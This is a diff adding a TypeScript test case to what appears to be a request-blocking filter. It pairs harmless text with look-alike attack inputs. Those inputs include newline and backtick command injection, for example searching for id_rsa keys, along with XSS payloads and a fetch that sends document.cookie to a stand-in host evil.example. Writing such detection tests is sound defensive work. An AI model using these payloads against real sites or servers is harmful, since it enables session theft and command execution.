@@ -230,3 +230,23 @@ t.test('queries of searches', async (t) => {
   ];
   for (const query of queries) t.same(blocked(input(`/api/things?${query}`, {})), [], query);
 });
+
+t.test('what looks alike: text passes, the attack beside it does not', async (t) => {
+  const pairs: [text: string, attack: string][] = [
+    ['Release notes:\nfind -name now works with links', '127.0.0.1\nfind /srv -name id_rsa'],
+    ['## Docs\nRead **[full docs](https://example.org/docs)**', 'x\nread -r line'],
+    ['Example:\n curl --netrc https://example.org', 'report.pdf\ncurl --netrc https://example.org'],
+    ['A warning option\ngcc -Wall understands', '8.8.8.8\r\ngcc -x c -'],
+    ["`echo -e' understands two new escapes", 'a`echo -e x`'],
+    ["Parsing change to allow `time -p --'.", '`time -p id`'],
+    ['The shell prompt (in contrib) leaked messages', 'prompt (document.domain)'],
+    ['setTimeout(unmount, 1000);', "setTimeout('alert(1)', 1)"],
+    ['setInterval(() => write(), 5000)', 'setInterval(alert,1)'],
+    ["const first = await fetch('https://api.example.org/random')", "fetch('https://evil.example/?c='+document.cookie)"],
+    ['gcloud create --node-location=<name>', 'location=<img src=x onerror=alert(1)>'],
+  ];
+  for (const [text, attack] of pairs) {
+    t.same(blocked(input('/api/notes', { value: text })), [], text);
+    t.not(blocked(input('/api/notes', { value: attack })).length, 0, attack);
+  }
+});
